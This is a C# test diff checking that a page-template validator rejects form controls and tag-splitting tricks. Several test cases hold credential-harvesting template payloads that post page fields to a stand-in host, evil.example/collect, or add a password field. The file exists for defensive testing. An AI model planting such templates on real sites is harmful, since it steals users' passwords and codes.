@@ -23,6 +23,24 @@ public sealed class PageTemplatesTests
         });
     }
 
+    // A form around the content takes the page's own fields (a browser ignores the page's nested <form> tag), so the
+    // password and codes would be posted to the template's action; a field of the template's own asks for them beside the page.
+    [TestCase("<form action=\"https://evil.example/collect\" method=\"post\">\n{{ content }}</form>", "a <form> element", 1, 1)]
+    [TestCase("<main>{{ content }}</main>\n<p><input type=\"password\" name=\"again\"></p>", "a <input> element", 2, 4)]
+    [TestCase("{{ content }}<BUTTON formaction=\"https://evil.example/\">Go</BUTTON>", "a <button> element", 1, 14)]
+    [TestCase("{{ content }}<textarea name=\"note\"></textarea>", "a <textarea> element", 1, 14)]
+    public void Problem_FormControlsInTheSource_AreRefusedNamingThemAndWhere(string template, string what, int line, int column)
+    {
+        var problem = PageTemplates.Problem(template, Acme);
+
+        Assert.Multiple(() =>
+        {
+            Assert.That(problem!.Field, Is.EqualTo("pageTemplate"));
+            Assert.That(problem.Message, Is.EqualTo($"must not contain {what}: only the page's own forms take what users type"));
+            Assert.That((problem.Line, problem.Column), Is.EqualTo((line, column)));
+        });
+    }
+
     [Test]
     public void Problem_JavascriptUrlSpelledWithCharacterReferences_IsRefused()
     {
@@ -99,6 +117,15 @@ public sealed class PageTemplatesTests
         var render = PageTemplates.Render("{% if tenant.name contains 'Acme' %}<scr{% endif %}ipt>{{ content }}", Acme, "page");
 
         Assert.That(((TemplateRender.Failed)render).Reason, Is.EqualTo("made a <script> element: the hosted pages run no script of a template"));
+    }
+
+    [Test]
+    public void Render_TemplateThatMakesAForm_FailsSoTheDefaultLayoutIsUsed()
+    {
+        var render = PageTemplates.Render("<fo{% if tenant.name %}{% endif %}rm action=\"https://evil.example/collect\">{{ content }}</form>", Acme,
+            "<form method=\"post\"><input type=\"password\" name=\"Password\"></form>");
+
+        Assert.That(((TemplateRender.Failed)render).Reason, Is.EqualTo("made a <form> element: only the page's own forms take what users type"));
     }
 
     [TestCase("#1f4e8c", null)]
